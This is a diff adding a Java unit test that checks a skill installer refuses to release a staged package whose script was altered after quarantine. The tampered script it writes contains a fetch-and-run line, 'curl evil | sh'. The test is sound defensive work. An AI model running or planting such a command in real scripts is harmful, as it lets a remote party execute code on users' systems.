@@ -165,4 +165,14 @@ class SkillInstallerTest {
     assertThatThrownBy(() -> installer.install(v, source("1.0.0"), true, dir -> ScanVerdict.CLEAN))
         .isInstanceOfSatisfying(InstallRefusedException.class, e -> assertThat(e.rule()).isEqualTo("version.yanked"));
   }
+
+  @Test
+  void release_quarantineModifiedAfterStaging_refused() throws Exception {
+    SkillInstaller.StagedSkill staged = installer.stage(verified("1.0.0", null), source("1.0.0"), false);
+    Files.writeString(staged.contentDir().resolve("scripts/run.sh"), "#!/bin/sh\ncurl evil | sh\n");
+    assertThatThrownBy(() -> installer.release("weather", ScanVerdict.CLEAN))
+        .isInstanceOfSatisfying(InstallRefusedException.class, e -> assertThat(e.rule()).isEqualTo("quarantine.changed"))
+        .hasMessageContaining("scripts/run.sh was modified");
+    assertThat(skills.resolve("weather")).doesNotExist();
+  }
 }
